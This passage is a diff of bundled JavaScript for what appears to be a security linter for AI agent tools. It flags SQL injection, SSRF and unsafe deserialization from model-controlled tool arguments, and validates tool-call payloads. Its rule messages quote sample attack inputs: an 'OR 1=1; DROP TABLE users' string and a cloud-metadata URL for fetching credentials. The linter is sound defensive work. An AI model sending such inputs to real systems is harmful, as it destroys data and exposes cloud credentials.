+  id: "tool-input/sql-injection",
+  family: "tool-input",
+  severity: "error",
+  description: "SQL text is built from a model-controlled tool argument (f-string, concatenation, %/format, template literal) and executed (cursor.execute, SQLAlchemy text, db.query/run/all, knex.raw, sequelize.query, prisma.$queryRawUnsafe).",
+  fix: 'Pass the value as a bound parameter (execute("... WHERE id = ?", (x,)), query("... $1", [x]), sql`...` tagged templates) instead of building the SQL string.',
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "x\' OR 1=1; DROP TABLE users; --" reads or destroys any data the connection can reach. Pass the value as a bound parameter (execute("... WHERE id = ?", (x,)), query("... $1", [x]), sql`...` tagged templates) instead of building the SQL string.'
+  }
+};
+var sqlInjection = {
+  meta: meta6,
+  appliesTo: (file) => file.isCode,
+  check: (ctx) => reportFlows(ctx, "sql", meta6)
+};
+
+// src/rules/tool-input/ssrf.ts
+var meta7 = {
+  id: "tool-input/ssrf",
+  family: "tool-input",
+  severity: "error",
+  description: "A model-controlled tool argument chooses the host of an outgoing HTTP request (requests, httpx, urllib, aiohttp, fetch, axios, got, undici, http.request).",
+  fix: "Fix the scheme and host in code (a literal base URL) or check urlparse(url).hostname / new URL(url).hostname against an allowlist before the request.",
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile argument such as "http://169.254.169.254/latest/meta-data/" makes the agent fetch internal services and cloud credentials. Fix the scheme and host in code (a literal base URL) or check urlparse(url).hostname / new URL(url).hostname against an allowlist before the request.'
+  }
+};
+var ssrf = {
+  meta: meta7,
+  appliesTo: (file) => file.isCode,
+  check: (ctx) => reportFlows(ctx, "ssrf", meta7)
+};
+
+// src/rules/tool-input/unsafe-deserialization.ts
+var meta8 = {
+  id: "tool-input/unsafe-deserialization",
+  family: "tool-input",
+  severity: "error",
+  description: "Model-controlled data reaches an unsafe deserializer (pickle/cPickle/marshal/dill/joblib, yaml.load without SafeLoader, yaml.unsafe_load/full_load, jsonpickle.decode, shelve.open, node-serialize unserialize).",
+  fix: "Use a data-only format: json.loads, yaml.safe_load, or a schema-validated parser; never unpickle data a model can supply.",
+  messages: {
+    flow: 'Tool "{{tool}}" passes its model-controlled parameter "{{param}}" to {{sink}}: a hostile payload runs arbitrary code while it is being deserialized. Use a data-only format: json.loads, yaml.safe_load, or a schema-validated parser; never unpickle data a model can supply.'
+  }
+};
+var unsafeDeserialization = {
+  meta: meta8,
+  appliesTo: (file) => file.isCode,
+  check: (ctx) => reportFlows(ctx, "deserialization", meta8)
+};
 
 // src/rules/tool-input/index.ts
-var toolInputRules = [];
+var toolInputRules = [rule, pathTraversal, commandInjection, argumentInjection, codeInjection, sqlInjection, ssrf, unsafeDeserialization];
+
+// src/payloads/analyze.ts
+var import_picomatch3 = __toESM(require_picomatch2(), 1);
+import { createHash as createHash2 } from "node:crypto";
+
+// src/payloads/paths.ts
+function pointerToPath(pointer, root) {
+  if (!pointer) return [];
+  const out2 = [];
+  let cur = root;
+  for (const raw of pointer.slice(1).split("/")) {
+    const key = raw.replace(/~1/g, "/").replace(/~0/g, "~");
+    if (Array.isArray(cur) && /^\d+$/.test(key)) {
+      out2.push(Number(key));
+      cur = cur[Number(key)];
+    } else {
+      out2.push(key);
+      cur = cur && typeof cur === "object" ? cur[key] : void 0;
+    }
+  }
+  return out2;
+}
+function pathToPointer(path2) {
+  return path2.map((s) => `/${String(s).replace(/~/g, "~0").replace(/\//g, "~1")}`).join("");
+}
+function formatPath(path2) {
+  let out2 = "";
+  for (const s of path2) {
+    if (typeof s === "number") out2 += `[${s}]`;
+    else if (/^[A-Za-z_$][\w$-]*$/.test(s)) out2 += out2 ? `.${s}` : s;
+    else out2 += `[${JSON.stringify(s)}]`;
+  }
+  return out2;
+}
+
+// src/payloads/describe.ts
+function typeName(v) {
+  if (v === null) return "null";
+  if (Array.isArray(v)) return "array";
+  if (typeof v === "number") return Number.isInteger(v) ? "integer" : "number";
+  return typeof v;
+}
+function preview(v) {
+  if (v === void 0) return "nothing";
+  if (typeof v === "string") return JSON.stringify(v.length > 24 ? `${v.slice(0, 20)}\u2026` : v);
+  if (v !== null && typeof v === "object") return Array.isArray(v) ? `an array of ${v.length}` : "an object";
+  return String(v);
+}
+function describeFound(v) {
+  if (v !== null && typeof v === "object") return preview(v);
+  return `${typeName(v)} ${preview(v)}`;
+}
+function valueAt(root, path2) {
+  let cur = root;
+  for (const s of path2) {
+    if (cur === null || typeof cur !== "object") return void 0;
+    cur = cur[s];
+  }
+  return cur;
+}
+var list = (vals) => vals.map((v) => JSON.stringify(v)).join(", ");
+function describeErrors(errors, data) {
+  if (!errors?.length) return [];
+  const branchRoots = errors.filter((e) => e.keyword === "anyOf" || e.keyword === "oneOf").map((e) => e.schemaPath);
+  const kept = errors.filter((e) => e.keyword !== "if" && !branchRoots.some((r2) => e.schemaPath !== r2 && e.schemaPath.startsWith(`${r2}/`)));
+  const out2 = [];
+  const seen = /* @__PURE__ */ new Set();
+  for (const e of kept) {
+    const path2 = pointerToPath(e.instancePath, data);
+    const found = valueAt(data, path2);
+    const p = e.params;
+    let v;
+    switch (e.keyword) {
+      case "required":
+        v = { path: path2, expected: `required property "${p.missingProperty}"`, found: "no such property" };
+        break;
+      case "additionalProperties":
+        v = { path: [...path2, p.additionalProperty], key: true, expected: `only declared properties (additionalProperties is false)`, found: `property "${p.additionalProperty}"` };
+        break;
+      case "unevaluatedProperties":
+        v = { path: [...path2, p.unevaluatedProperty], key: true, expected: `only evaluated properties (unevaluatedProperties is false)`, found: `property "${p.unevaluatedProperty}"` };
+        break;
+      case "type":
+        v = { path: path2, expected: String(p.type).replace(/,/g, " or "), found: describeFound(found) };
+        break;
+      case "enum":
+        v = { path: path2, expected: `one of ${list(p.allowedValues)}`, found: describeFound(found) };
+        break;
+      case "const":
+        v = { path: path2, expected: JSON.stringify(p.allowedValue), found: describeFound(found) };
+        break;
+      case "pattern":
+        v = { path: path2, expected: `a string matching /${p.pattern}/`, found: describeFound(found) };
+        break;
+      case "format":
+        v = { path: path2, expected: `a "${p.format}" string`, found: describeFound(found) };
+        break;
+      case "anyOf":
+        v = { path: path2, expected: "a value matching one of the anyOf alternatives", found: describeFound(found) };
+        break;
+      case "oneOf":
+        v = { path: path2, expected: "a value matching exactly one of the oneOf alternatives", found: p.passingSchemas ? `a value matching alternatives ${JSON.stringify(p.passingSchemas)}` : describeFound(found) };
+        break;
+      case "minLength":
+      case "maxLength":
+        v = { path: path2, expected: `a string of ${e.keyword === "minLength" ? "at least" : "at most"} ${p.limit} character${p.limit === 1 ? "" : "s"}`, found: describeFound(found) };
+        break;
+      case "minItems":
+      case "maxItems":
+        v = { path: path2, expected: `an array of ${e.keyword === "minItems" ? "at least" : "at most"} ${p.limit} item${p.limit === 1 ? "" : "s"}`, found: describeFound(found) };
+        break;
+      case "minimum":
+      case "maximum":
+      case "exclusiveMinimum":
+      case "exclusiveMaximum":
+        v = { path: path2, expected: `a number ${p.comparison} ${p.limit}`, found: describeFound(found) };
+        break;
+      default:
+        v = { path: path2, expected: `a value that ${e.message ?? `satisfies ${e.keyword}`}`, found: describeFound(found) };
+    }
+    const k = `${JSON.stringify(v.path)}|${v.expected}`;
+    if (seen.has(k)) continue;
+    seen.add(k);
+    out2.push(v);
+  }
+  return out2;
+}
+
+// src/payloads/check.ts
+var NAME_RULES = {
+  openai: { re: /^[a-zA-Z0-9_-]{1,64}$/, label: "OpenAI" },
+  anthropic: { re: /^[a-zA-Z0-9_-]{1,64}$/, label: "Anthropic" }
+};
+function where(label, path2, inner) {
+  const p = formatPath(path2);
+  const parts2 = [label, p].filter(Boolean).join(", ") || "document";
+  return inner ? `${parts2} \u2192 ${inner}` : parts2;
+}
+function at(host, path2) {
+  return host ? { path: host, ...path2.length ? { inner: formatPath(path2) } : {} } : { path: path2 };
+}
+function hintOf(host, path2, extra = "") {
+  return (host ? `${pathToPointer(host)}#${pathToPointer(path2)}` : pathToPointer(path2)) + extra;
+}
+function checkRecord(x, opts) {
+  const issues = [];
+  const { label, cache } = opts;
+  const tools = /* @__PURE__ */ new Map();
+  for (const d of x.decls) {
+    if (!tools.has(d.name)) tools.set(d.name, d);
+    const rule2 = NAME_RULES[d.provider];
+    if (rule2 && !rule2.re.test(d.name)) {
+      const loc2 = at(d.host, d.namePath);
+      issues.push({
+        rule: "invalid-tool-schema",
+        messageId: "badName",
+        data: { where: where(label, loc2.path, loc2.inner), found: JSON.stringify(d.name), provider: rule2.label, expected: String(rule2.re) },
+        path: loc2.path,
+        hint: hintOf(d.host, d.namePath)
+      });
+    }
+    const schemas = [];
+    if (d.schema !== void 0) schemas.push({ schema: d.schema, path: d.schemaPath, what: "input schema" });
+    if (d.outputSchema) schemas.push({ ...d.outputSchema, what: "output schema" });
+    for (const s of schemas) {
+      const compiled = cache.get(s.schema, d.flavour, d.dialect);
+      const problems = compiled.ok ? [] : compiled.problems;
+      const rootType = s.schema && typeof s.schema === "object" ? s.schema.type : void 0;
+      if (compiled.ok && s.what === "input schema" && rootType !== void 0 && rootType !== "object" && !(d.flavour === "gemini" && String(rootType).toLowerCase() === "object") && !(d.flavour === "bfcl" && rootType === "dict")) {
+        problems.push({ path: ["type"], expected: 'an object schema ("type": "object") for tool arguments', found: JSON.stringify(rootType) });
+      }
+      for (const p of problems) {
+        const loc2 = at(d.host, [...s.path, ...p.path]);
+        issues.push({
+          rule: "invalid-tool-schema",
+          messageId: "badSchema",
+          data: { where: where(label, loc2.path, loc2.inner), tool: d.name, what: s.what, expected: p.expected, found: p.found },
+          path: loc2.path,
+          hint: hintOf(d.host, [...s.path, ...p.path])
+        });
+      }
+    }
+  }
+  const scope = tools.size ? tools : opts.fileTools?.size ? opts.fileTools : null;
+  const scopeName = tools.size ? "this record" : "this file";
+  for (const bad of x.badEmbedded) {
+    issues.push({
+      rule: "invalid-arguments",
+      messageId: "callUnparsable",
+      data: { where: where(label, bad.host), error: bad.error },
+      path: bad.host,
+      hint: hintOf(void 0, bad.host, ":call")
+    });
+  }
+  for (const c of x.calls) checkCall(c, scope, scopeName, opts, issues);
+  checkPairing(x, label, issues);
+  return issues;
+}
+function checkCall(c, scope, scopeName, opts, issues) {
+  const { label } = opts;
+  const callWhere = (inner) => {
+    const loc2 = at(c.host, c.path);
+    return where(label, loc2.path, [loc2.inner, inner].filter(Boolean).join(".") || void 0);
+  };
+  let args2;
+  let argsPath = [];
+  let inString = false;
+  if (c.args.kind === "string") {
+    argsPath = c.args.path;
+    inString = true;
+    const text = c.args.text;
+    try {
+      args2 = text.trim() === "" ? {} : JSON.parse(text);
+    } catch (err2) {
+      const loc2 = at(c.host, argsPath);
+      issues.push({
+        rule: "invalid-arguments",
+        messageId: "unparsable",
+        data: { where: callWhere(), tool: c.name, error: err2.message, found: preview(text) },
+        path: loc2.path,
+        hint: hintOf(c.host, argsPath, ":parse")
+      });
+      return;
+    }
+    if (typeof args2 === "string") {
+      const again = args2.trim();
+      let inner;
+      try {
+        inner = again.startsWith("{") || again.startsWith("[") ? JSON.parse(again) : void 0;
+      } catch {
+        inner = void 0;
+      }
+      const loc2 = at(c.host, argsPath);
+      issues.push({
+        rule: "invalid-arguments",
+        messageId: inner !== void 0 ? "doubleEncoded" : "notObject",
+        data: { where: callWhere(), tool: c.name, found: inner !== void 0 ? "a JSON string that itself holds JSON" : `string ${preview(args2)}` },
+        path: loc2.path,
+        hint: hintOf(c.host, argsPath, ":type")
+      });
+      return;
+    }
+  } else if (c.args.kind === "object") {
+    argsPath = c.args.path;
+    args2 = c.args.value;
+  } else {
+    args2 = {};
+  }
+  if (c.args.kind !== "none" && (args2 === null || typeof args2 !== "object" || Array.isArray(args2))) {
+    const loc2 = at(c.host, argsPath);
+    issues.push({
+      rule: "invalid-arguments",
+      messageId: "notObject",
+      data: { where: callWhere(), tool: c.name, found: describeFound(args2) },
+      path: loc2.path,
+      hint: hintOf(c.host, argsPath, ":type")
+    });
+    return;
+  }
+  if (!scope) return;
+  const decl = scope.get(c.name);
+  if (!decl) {
+    const loc2 = at(c.host, c.namePath);
+    const declared = [...scope.keys()];
+    issues.push({
+      rule: "unknown-tool",
+      messageId: "unknown",
+      data: { where: callWhere(), name: c.name, scope: scopeName, declared: declared.slice(0, 10).map((n) => JSON.stringify(n)).join(", ") + (declared.length > 10 ? `, \u2026 (${declared.length})` : "") },
+      path: loc2.path,
+      hint: hintOf(c.host, c.namePath, `:${c.name}`)
+    });
+    return;
+  }
+  if (decl.schema === void 0) return;
+  const compiled = opts.cache.get(decl.schema, decl.flavour, decl.dialect);
+  if (!compiled.ok) return;
+  const argName = (p) => formatPath(["arguments", ...p]);
+  const locate = (p, key) => inString ? { ...at(c.host, argsPath), key: false } : { ...at(c.host, [...argsPath, ...p]), key };
+  if (!compiled.validate(args2)) {
+    for (const v of describeErrors(compiled.validate.errors, args2)) {
+      const loc2 = locate(v.path, v.key);
+      issues.push({
+        rule: "invalid-arguments",
+        messageId: "violation",
+        data: { where: callWhere(), tool: c.name, arg: argName(v.path), expected: v.expected, found: v.found },
+        path: loc2.path,
+        ...loc2.key ? { key: true } : {},
+        hint: hintOf(c.host, argsPath, `#${pathToPointer(v.path)}:${v.expected}`)
+      });
+    }
+  }
+  for (const u of undeclared(args2, compiled.schema, [])) {
+    const loc2 = locate(u.path, true);
+    issues.push({
+      rule: "invalid-arguments",
+      messageId: "undeclared",
+      severity: "warning",
+      data: { where: callWhere(), tool: c.name, arg: argName(u.path), declared: u.declared.length ? u.declared.map((n) => JSON.stringify(n)).join(", ") : "none" },
+      path: loc2.path,
+      ...loc2.key ? { key: true } : {},
+      hint: hintOf(c.host, argsPath, `#${pathToPointer(u.path)}:undeclared`)
+    });
+  }
+}
+function undeclared(value, schema, path2) {
+  if (!schema || typeof schema !== "object" || value === null || typeof value !== "object") return [];
+  const s = schema;
+  if ("$ref" in s || "anyOf" in s || "oneOf" in s || "allOf" in s || "if" in s || "$dynamicRef" in s) return [];
+  const out2 = [];
+  if (Array.isArray(value)) {
+    if (s.items && typeof s.items === "object" && !Array.isArray(s.items)) value.forEach((v, i2) => out2.push(...undeclared(v, s.items, [...path2, i2])));
+    return out2;
+  }
+  const props = s.properties && typeof s.properties === "object" ? s.properties : null;
+  if (!props) return out2;
+  const patterns = s.patternProperties && typeof s.patternProperties === "object" ? Object.keys(s.patternProperties).map((p) => safeRegExp(p)) : [];
+  const declared = Object.keys(props);
+  for (const [k, v] of Object.entries(value)) {
+    if (Object.prototype.hasOwnProperty.call(props, k)) out2.push(...undeclared(v, props[k], [...path2, k]));
+    else if (s.additionalProperties === false || s.unevaluatedProperties === false) continue;
+    else if (s.additionalProperties && typeof s.additionalProperties === "object") continue;
+    else if (!patterns.some((re) => re?.test(k))) out2.push({ path: [...path2, k], declared });
+  }
+  return out2;
+}
+function safeRegExp(p) {
+  try {
+    return new RegExp(p, "u");
+  } catch {
+    return null;
+  }
+}
+function checkPairing(x, label, issues) {
+  const firstById = /* @__PURE__ */ new Map();
+  for (const c of x.calls) {
+    if (c.id === void 0 || c.host) continue;
+    const first = firstById.get(c.id);
+    if (first) {
+      issues.push({
+        rule: "unpaired-call",
+        messageId: "duplicateId",
+        data: { where: where(label, c.path), id: JSON.stringify(c.id), first: formatPath(first.path) || "document" },
+        path: c.idPath,
+        hint: hintOf(void 0, c.idPath, ":dup")
+      });
+    } else firstById.set(c.id, c);
+  }
+  const resultIds = new Set(x.results.map((r2) => r2.id));
+  for (const r2 of x.results) {
+    if (firstById.has(r2.id) || !r2.turn) continue;
+    issues.push({
+      rule: "unpaired-call",
+      messageId: "noCall",
+      data: { where: where(label, r2.path), id: JSON.stringify(r2.id) },
+      path: r2.idPath,
+      hint: hintOf(void 0, r2.idPath, ":nocall")
+    });
+  }
+  for (const c of firstById.values()) {
+    if (resultIds.has(c.id) || !c.turn || c.turn.index >= c.turn.last) continue;
+    issues.push({
+      rule: "unpaired-call",
+      messageId: "noResult",
+      data: { where: where(label, c.path), name: c.name, id: JSON.stringify(c.id), next: formatPath([...c.turn.conv, c.turn.index + 1]) || `[${c.turn.index + 1}]` },
+      path: c.idPath,
+      hint: hintOf(void 0, c.idPath, ":noresult")
+    });
+  }
+}
+
+// src/payloads/extract.ts
+var isObj = (v) => v !== null && typeof v === "object" && !Array.isArray(v);
+var str = (v) => typeof v === "string";
+var CONV_KEYS = /* @__PURE__ */ new Set(["messages", "input", "output", "contents", "conversation", "conversations", "history", "items", "chat", "dialog", "turns"]);
+var DECL_FIELDS = ["input", "instruction", "system", "tools", "functions", "tool", "function", "context", "schema"];
+var CALL_FIELDS = ["output", "response", "completion", "answer", "target", "tool_call", "call"];
+var TAGGED = /<(tool_call|functioncall|function_call)>\s*([\s\S]*?)\s*<\/\1>/g;
+function isSchemaLike(v) {
+  return isObj(v) && ("type" in v || "properties" in v || "$schema" in v || "anyOf" in v || "oneOf" in v);
+}
+function looksConversational(arr) {
+  return arr.some((x) => isObj(x) && (str(x.role) || str(x.type) && /^(message|function_call|function_call_output|reasoning)$/.test(x.type)));
+}
+var Walker = class {
+  constructor(bfcl, host) {
+    this.bfcl = bfcl;
+    this.host = host;
+  }
+  bfcl;
+  host;
+  out = { decls: [], calls: [], results: [], badEmbedded: [] };
+  visit(v, path2, parentKey, turn) {
+    if (Array.isArray(v)) {
+      const conv = typeof parentKey === "string" && CONV_KEYS.has(parentKey) || parentKey === void 0 && looksConversational(v);
+      for (let i2 = 0; i2 < v.length; i2++) {
+        const t = conv ? { conv: path2, index: i2, last: v.length - 1 } : turn;
+        this.visit(v[i2], [...path2, i2], typeof parentKey === "string" ? parentKey : void 0, t);
+      }
+      return;
+    }
+    if (!isObj(v)) return;
+    if (this.matchDecl(v, path2, parentKey) || this.matchCall(v, path2, parentKey, turn) || this.matchResult(v, path2, turn)) return;
+    for (const k of Object.keys(v)) {
+      const child = v[k];
+      if (child !== null && typeof child === "object") this.visit(child, [...path2, k], k, turn);
+    }
+  }
+  decl(d) {
+    this.out.decls.push({ dialect: "draft-07", ...d, ...this.host ? { host: this.host } : {} });
+    return true;
+  }
+  matchDecl(o, path2, parentKey) {
+    if (o.type === "function" && isObj(o.function) && str(o.function.name) && !("arguments" in o.function)) {
+      const f = o.function;
+      return this.decl({ name: f.name, namePath: [...path2, "function", "name"], path: path2, schema: f.parameters, schemaPath: [...path2, "function", "parameters"], provider: "openai", flavour: "json-schema" });
+    }
+    if (!str(o.name)) return false;
+    const base = { name: o.name, namePath: [...path2, "name"], path: path2 };
+    if (o.type === "function" && !("arguments" in o)) {
+      return this.decl({ ...base, schema: o.parameters, schemaPath: [...path2, "parameters"], provider: "openai", flavour: "json-schema" });
+    }
+    if (isObj(o.input_schema) && o.type !== "tool_use") {
+      return this.decl({ ...base, schema: o.input_schema, schemaPath: [...path2, "input_schema"], provider: "anthropic", flavour: "json-schema" });
+    }
+    if (isObj(o.inputSchema)) {
+      return this.decl({
+        ...base,
+        schema: o.inputSchema,
+        schemaPath: [...path2, "inputSchema"],
+        ...isObj(o.outputSchema) ? { outputSchema: { schema: o.outputSchema, path: [...path2, "outputSchema"] } } : {},
+        provider: "mcp",
+        flavour: "json-schema",
+        dialect: "2020-12"
+      });
+    }
+    if (parentKey === "functionDeclarations" || parentKey === "function_declarations") {
+      if ("parametersJsonSchema" in o) return this.decl({ ...base, schema: o.parametersJsonSchema, schemaPath: [...path2, "parametersJsonSchema"], provider: "gemini", flavour: "json-schema" });
+      return this.decl({ ...base, schema: o.parameters, schemaPath: [...path2, "parameters"], provider: "gemini", flavour: "gemini" });
+    }
+    if ("arguments" in o || "args" in o || "input" in o) return false;
+    if (parentKey === "function" && this.bfcl) {
+      return this.decl({ ...base, schema: o.parameters, schemaPath: [...path2, "parameters"], provider: "bfcl", flavour: "bfcl" });
+    }
+    if (parentKey === "functions" && (o.parameters === void 0 || isObj(o.parameters))) {
+      return this.decl({ ...base, schema: o.parameters, schemaPath: [...path2, "parameters"], provider: "openai", flavour: "json-schema" });
+    }
+    if (isSchemaLike(o.parameters)) {
+      const p = o.parameters;
+      const bfclDoc = p.type === "dict";
+      return this.decl({ ...base, schema: p, schemaPath: [...path2, "parameters"], provider: bfclDoc ? "bfcl" : "generic", flavour: bfclDoc ? "bfcl" : "json-schema" });
+    }
+    return false;
+  }
+  call(c) {
+    this.out.calls.push({ ...c, ...this.host ? { host: this.host } : {} });
+    return true;
+  }
+  args(v, path2) {
+    if (str(v)) return { kind: "string", text: v, path: path2 };
+    if (v === void 0) return { kind: "none" };
+    return { kind: "object", value: v, path: path2 };
+  }
+  matchCall(o, path2, parentKey, turn) {
+    const t = turn ? { turn } : {};
+    if (parentKey === "tool_calls" && isObj(o.function) && str(o.function.name)) {
+      const f = o.function;
+      return this.call({
+        name: f.name,
+        namePath: [...path2, "function", "name"],
+        path: path2,
+        ...str(o.id) ? { id: o.id, idPath: [...path2, "id"] } : {},
+        provider: "openai",
+        args: this.args(f.arguments, [...path2, "function", "arguments"]),
+        ...t
+      });
+    }
+    if (o.method === "tools/call" && isObj(o.params) && str(o.params.name)) {
+      return this.call({ name: o.params.name, namePath: [...path2, "params", "name"], path: path2, provider: "mcp", args: this.args(o.params.arguments ?? {}, [...path2, "params", "arguments"]), ...t });
+    }
+    if (!str(o.name)) return false;
+    const base = { name: o.name, namePath: [...path2, "name"], path: path2, ...t };
+    if (o.type === "function_call") {
+      return this.call({ ...base, ...str(o.call_id) ? { id: o.call_id, idPath: [...path2, "call_id"] } : {}, provider: "openai", args: this.args(o.arguments, [...path2, "arguments"]) });
+    }
+    if (o.type === "tool_use") {
+      return this.call({ ...base, ...str(o.id) ? { id: o.id, idPath: [...path2, "id"] } : {}, provider: "anthropic", args: this.args(o.input ?? {}, [...path2, "input"]) });
+    }
+    if (parentKey === "functionCall" || parentKey === "function_call" && "args" in o) {
+      return this.call({ ...base, ...str(o.id) ? { id: o.id, idPath: [...path2, "id"] } : {}, provider: "gemini", args: this.args(o.args ?? {}, [...path2, "args"]) });
+    }
+    if (parentKey === "function_call" && "arguments" in o) {
+      return this.call({ ...base, provider: "openai", args: this.args(o.arguments, [...path2, "arguments"]) });
+    }
+    if ("arguments" in o && (str(o.arguments) || isObj(o.arguments))) {
+      return this.call({ ...base, ...str(o.id) ? { id: o.id, idPath: [...path2, "id"] } : {}, provider: "generic", args: this.args(o.arguments, [...path2, "arguments"]) });
+    }
+    return false;
+  }
+  matchResult(o, path2, turn) {
+    const t = turn ? { turn } : {};
+    if (o.role === "tool" && str(o.tool_call_id)) {
+      this.out.results.push({ id: o.tool_call_id, idPath: [...path2, "tool_call_id"], path: path2, ...t });
+      return true;
+    }
+    if (o.type === "function_call_output" && str(o.call_id)) {
+      this.out.results.push({ id: o.call_id, idPath: [...path2, "call_id"], path: path2, ...t });
+      return true;
+    }
+    if (o.type === "tool_result") {
+      const key = str(o.tool_use_id) ? "tool_use_id" : str(o.toolUseId) ? "toolUseId" : null;
+      if (key) this.out.results.push({ id: o[key], idPath: [...path2, key], path: path2, ...t });
+      return true;
+    }
+    return false;
+  }
+};
+function embeddedJson(text) {
+  const trimmed = text.trim();
+  if (trimmed.startsWith("{") || trimmed.startsWith("[")) {
+    try {
+      return { values: [JSON.parse(trimmed)] };
+    } catch (err2) {
+      return { values: [], error: err2.message };
+    }
+  }
+  if (!trimmed.includes("</")) return null;
+  const values = [];
+  for (const m of trimmed.matchAll(TAGGED)) {
+    try {
+      values.push(JSON.parse(m[2]));
+    } catch (err2) {
+      return { values, error: err2.message };
+    }
+  }
+  return values.length ? { values } : null;
+}
+function extract(record, prefix = []) {
+  const bfcl = isObj(record) && Array.isArray(record.function) && "question" in record;
+  const walker = new Walker(bfcl);
+  walker.visit(record, prefix, void 0, void 0);
+  const out2 = walker.out;
+  if (isObj(record) && out2.decls.length === 0 && out2.calls.length === 0) extractInstruction(record, prefix, out2);
+  return out2;
+}
+function extractInstruction(record, prefix, out2) {
+  const decls = [];
+  for (const field3 of DECL_FIELDS) {
+    const v = record[field3];
+    if (!str(v)) continue;
+    const parsed = embeddedJson(v);
+    if (!parsed) continue;
+    for (const value of parsed.values) {
+      const w = new Walker(false, [...prefix, field3]);
+      w.visit(value, [], "tools", void 0);
+      decls.push(...w.out.decls);
+    }
+  }
+  if (decls.length === 0) return;
+  out2.decls.push(...decls);
+  for (const field3 of CALL_FIELDS) {
+    const v = record[field3];
+    if (!str(v)) continue;
+    const parsed = embeddedJson(v);
+    if (!parsed) continue;
+    if (parsed.error) out2.badEmbedded.push({ host: [...prefix, field3], error: parsed.error });
+    for (const value of parsed.values) {
+      const w = new Walker(false, [...prefix, field3]);
+      w.visit(value, [], void 0, void 0);
+      out2.calls.push(...w.out.calls);
+    }
+  }
+}
+function isPayloadContent(x) {
+  return x.decls.length > 0 || x.calls.length > 0 || x.results.length > 0;
+}
+
+// node_modules/jsonc-parser/lib/esm/impl/scanner.js
+function createScanner(text, ignoreTrivia = false) {
+  const len = text.length;
+  let pos = 0, value = "", tokenOffset = 0, token = 16, lineNumber = 0, lineStartOffset = 0, tokenLineStartOffset = 0, prevTokenLineStartOffset = 0, scanError = 0;
+  function scanHexDigits(count, exact) {
+    let digits = 0;
+    let value2 = 0;
+    while (digits < count || !exact) {
+      let ch = text.charCodeAt(pos);
+      if (ch >= 48 && ch <= 57) {
+        value2 = value2 * 16 + ch - 48;
+      } else if (ch >= 65 && ch <= 70) {
+        value2 = value2 * 16 + ch - 65 + 10;
+      } else if (ch >= 97 && ch <= 102) {
+        value2 = value2 * 16 + ch - 97 + 10;
+      } else {
+        break;
+      }
+      pos++;
+      digits++;
+    }
+    if (digits < count) {
+      value2 = -1;
+    }
+    return value2;
+  }
+  function setPosition(newPosition) {
+    pos = newPosition;
+    value = "";
+    tokenOffset = 0;
+    token = 16;
+    scanError = 0;
+  }
+  function scanNumber() {
+    let start2 = pos;
+    if (text.charCodeAt(pos) === 48) {
+      pos++;
+    } else {
+      pos++;
+      while (pos < text.length && isDigit(text.charCodeAt(pos))) {
+        pos++;
+      }
+    }
+    if (pos < text.length && text.charCodeAt(pos) === 46) {
+      pos++;
+      if (pos < text.length && isDigit(text.charCodeAt(pos))) {
+        pos++;
+        while (pos < text.length && isDigit(text.charCodeAt(pos))) {
+          pos++;
+        }
+      } else {
+        scanError = 3;
+        return text.substring(start2, pos);
+      }
+    }
+    let end = pos;
+    if (pos < text.length && (text.charCodeAt(pos) === 69 || text.charCodeAt(pos) === 101)) {
+      pos++;
+      if (pos < text.length && text.charCodeAt(pos) === 43 || text.charCodeAt(pos) === 45) {
+        pos++;
+      }
+      if (pos < text.length && isDigit(text.charCodeAt(pos))) {
+        pos++;
+        while (pos < text.length && isDigit(text.charCodeAt(pos))) {
+          pos++;
+        }
+        end = pos;
+      } else {
+        scanError = 3;
+      }
+    }
+    return text.substring(start2, end);
+  }
+  function scanString() {
+    let result = "", start2 = pos;
+    while (true) {
+      if (pos >= len) {
+        result += text.substring(start2, pos);
+        scanError = 2;
+        break;
+      }
+      const ch = text.charCodeAt(pos);
+      if (ch === 34) {
+        result += text.substring(start2, pos);
+        pos++;
+        break;
+      }
+      if (ch === 92) {
+        result += text.substring(start2, pos);
+        pos++;
+        if (pos >= len) {
+          scanError = 2;
+          break;
+        }
+        const ch2 = text.charCodeAt(pos++);
+        switch (ch2) {
+          case 34:
+            result += '"';
+            break;
+          case 92:
+            result += "\\";
+            break;
+          case 47:
+            result += "/";
+            break;
+          case 98:
+            result += "\b";
+            break;
+          case 102:
+            result += "\f";
+            break;
+          case 110:
+            result += "\n";
+            break;
+          case 114:
+            result += "\r";
+            break;
+          case 116:
+            result += "	";
+            break;
+          case 117:
+            const ch3 = scanHexDigits(4, true);
+            if (ch3 >= 0) {
+              result += String.fromCharCode(ch3);
+            } else {
+              scanError = 4;
+            }
+            break;
+          default:
+            scanError = 5;
+        }
+        start2 = pos;
+        continue;
+      }
+      if (ch >= 0 && ch <= 31) {
+        if (isLineBreak(ch)) {
+          result += text.substring(start2, pos);
+          scanError = 2;
+          break;
+        } else {
+          scanError = 6;
+        }
+      }
+      pos++;
+    }
+    return result;
+  }
+  function scanNext() {
+    value = "";
+    scanError = 0;
+    tokenOffset = pos;
+    lineStartOffset = lineNumber;
+    prevTokenLineStartOffset = tokenLineStartOffset;
+    if (pos >= len) {
+      tokenOffset = len;
+      return token = 17;
+    }
+    let code2 = text.charCodeAt(pos);
+    if (isWhiteSpace(code2)) {
+      do {
+        pos++;
+        value += String.fromCharCode(code2);
+        code2 = text.charCodeAt(pos);
+      } while (isWhiteSpace(code2));
+      return token = 15;
+    }
+    if (isLineBreak(code2)) {
+      pos++;
+      value += String.fromCharCode(code2);
+      if (code2 === 13 && text.charCodeAt(pos) === 10) {
+        pos++;
+        value += "\n";
+      }
+      lineNumber++;
+      tokenLineStartOffset = pos;
+      return token = 14;
+    }
+    switch (code2) {
+      // tokens: []{}:,
+      case 123:
+        pos++;
+        return token = 1;
+      case 125:
+        pos++;
+        return token = 2;
+      case 91:
+        pos++;
+        return token = 3;
+      case 93:
+        pos++;
+        return token = 4;
+      case 58:
+        pos++;
+        return token = 6;
+      case 44:
+        pos++;
+        return token = 5;
+      // strings
+      case 34:
+        pos++;
+        value = scanString();
+        return token = 10;
+      // comments
+      case 47:
+        const start2 = pos - 1;
+        if (text.charCodeAt(pos + 1) === 47) {
+          pos += 2;
+          while (pos < len) {
+            if (isLineBreak(text.charCodeAt(pos))) {
+              break;
+            }
+            pos++;
+          }
+          value = text.substring(start2, pos);
+          return token = 12;
+        }
+        if (text.charCodeAt(pos + 1) === 42) {
+          pos += 2;
+          const safeLength = len - 1;
+          let commentClosed = false;
+          while (pos < safeLength) {
